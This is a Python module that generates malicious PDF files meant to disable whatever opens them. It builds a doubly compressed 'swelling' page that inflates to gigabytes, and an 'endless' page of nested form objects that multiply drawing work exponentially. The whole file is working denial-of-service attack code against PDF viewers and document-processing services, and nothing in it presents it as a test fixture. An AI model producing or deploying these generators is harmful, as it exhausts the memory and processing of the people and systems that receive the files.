"""Small files that are made to end whoever opens them. They hold nothing but what does so."""

import zlib
from collections.abc import Sequence


def swelling_pdf(gigabytes: int) -> bytes:
    """A page whose drawing is packed twice, and unpacks to gigabytes."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"0 ") + packer.flush(zlib.Z_FULL_FLUSH)
    megabyte = packer.compress(b"0 " * (1 << 19)) + packer.flush(zlib.Z_FULL_FLUSH)  # stands for itself, however often it comes
    once = head + megabyte * (gigabytes << 10) + packer.flush()
    return _pdf([_page(b""), _stream(zlib.compress(once, 9), b"/Filter[/FlateDecode/FlateDecode]")])


def endless_pdf(depth: int = 12, width: int = 10) -> bytes:
    """A page that draws a form ten times, which draws another one ten times, and so on."""
    forms = [_form(b"/X Do " * width, b"/XObject<</X %d 0 R>>" % (6 + n)) for n in range(depth - 1)]
    last = _form(b"BT /F 9 Tf (a) Tj ET", b"/Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>")
    return _pdf([_page(b"/XObject<</X 5 0 R>>"), _stream(b"/X Do " * width), *forms, last])


def _page(resources: bytes) -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<<%s>>/Contents 4 0 R>>" % resources


def _form(content: bytes, resources: bytes) -> bytes:
    return _stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]/Resources<<%s>>" % resources)


def _stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(content), content)


def _pdf(objects: Sequence[bytes]) -> bytes:
    """`objects` from number 3 on, the first of them the only page."""
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate((b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", *objects), 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(offsets) + 1
    end = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, len(out))
    return bytes(out) + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + end
